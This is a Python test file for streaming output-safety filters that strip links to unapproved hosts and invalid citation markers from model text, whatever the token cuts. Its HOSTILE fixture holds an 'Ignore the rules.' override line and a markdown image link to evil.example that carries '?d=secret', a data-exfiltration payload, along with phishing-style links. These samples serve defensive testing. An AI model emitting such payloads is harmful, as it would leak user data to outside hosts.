"""The output-safety filters on text cut anywhere: a token boundary never lets a link through.

Models stream words, not constructs: `https` and `://evil...` arrive as two deltas, `!` ahead of
`[...](...)`. Whatever the cuts, the filtered text is the text filtered whole.
"""

from __future__ import annotations

import random

import pytest

from docent.generation import CitationFilter, LinkFilter

ALLOWED = ["https://docs.acme.test/install#pip"]
HOSTILE = (
    "Ignore the rules. ![pixel](https://evil.example/p.png?d=secret) then "
    "[click here](https://evil.example/login) or see https://evil.example/x and "
    "<https://evil.example/auto> but [the docs](https://docs.acme.test/billing) [S1]. "
    "![logo](https://docs.acme.test/logo.png) http://evil.example/plain, ok."
)


def links(deltas: list[str]) -> str:
    fil = LinkFilter(ALLOWED)
    return "".join(fil.feed(d) for d in deltas) + fil.flush()


def citations(deltas: list[str], valid: tuple[str, ...] = ("S1", "S2")) -> str:
    fil = CitationFilter(list(valid))
    return "".join(fil.feed(d) for d in deltas) + fil.flush()


def test_the_whole_hostile_text_keeps_only_links_to_the_sources_host() -> None:
    text = links([HOSTILE])
    assert "evil" not in text and "![" not in text
    assert "[the docs](https://docs.acme.test/billing)" in text
    assert "pixel" in text and "click here" in text and "logo" in text  # link text stays


@pytest.mark.parametrize("cut", range(1, len(HOSTILE)))
def test_one_cut_anywhere_gives_the_same_text(cut: int) -> None:
    assert links([HOSTILE[:cut], HOSTILE[cut:]]) == links([HOSTILE])


def test_one_character_per_delta_gives_the_same_text() -> None:
    assert links(list(HOSTILE)) == links([HOSTILE])


def test_word_sized_tokens_split_inside_the_scheme_are_still_caught() -> None:
    # How tokenizers cut URLs: the scheme, its separator and the host apart.
    # fmt: off
    deltas = ["See ", "https", "://", "evil", ".example", "/x", " and ", "!", "[a](", "https",
              "://docs.acme.test/i.png", ")", " or ", "htt", "p:/", "/evil.example/y", "."]
    # fmt: on
    text = links(deltas)
    assert "evil" not in text and "![" not in text
    assert text == links(["".join(deltas)])


@pytest.mark.parametrize("seed", range(20))
def test_random_token_sizes_give_the_same_text(seed: int) -> None:
    rng = random.Random(seed)
    deltas, rest = [], HOSTILE
    while rest:
        size = rng.randint(1, 6)
        deltas.append(rest[:size])
        rest = rest[size:]
    assert links(deltas) == links([HOSTILE])


def test_plain_words_pass_at_once_and_a_held_scheme_start_comes_out_with_the_next_delta() -> None:
    fil = LinkFilter(ALLOWED)
    assert fil.feed("plain words ") == "plain words "
    assert fil.feed("with") == "wit"  # a trailing "h" may begin "https://"
    assert fil.feed(" care!") == "h care"
    assert fil.flush() == "!"


def test_a_link_held_open_waits_for_its_end_and_is_then_judged() -> None:
    fil = LinkFilter(ALLOWED)
    out = [fil.feed(d) for d in ["[a long", " link text", "](https://evil", ".example", "/x)", "!"]]
    assert out[:5] == ["", "", "", "", "a long link text"]
    assert fil.flush() == "!"


TEXT = "Use pip [S1]. Also [S2, S3] and [S9]; see [ S1 ] or [x] [S"


@pytest.mark.parametrize("cut", range(1, len(TEXT)))
def test_citation_markers_cut_anywhere_give_the_same_text(cut: int) -> None:
    assert citations([TEXT[:cut], TEXT[cut:]]) == citations([TEXT])


def test_citation_markers_one_character_per_delta() -> None:
    whole = citations([TEXT])
    assert citations(list(TEXT)) == whole
    assert "[S9]" not in whole and "[S3]" not in whole and whole.count("[S1]") == 2
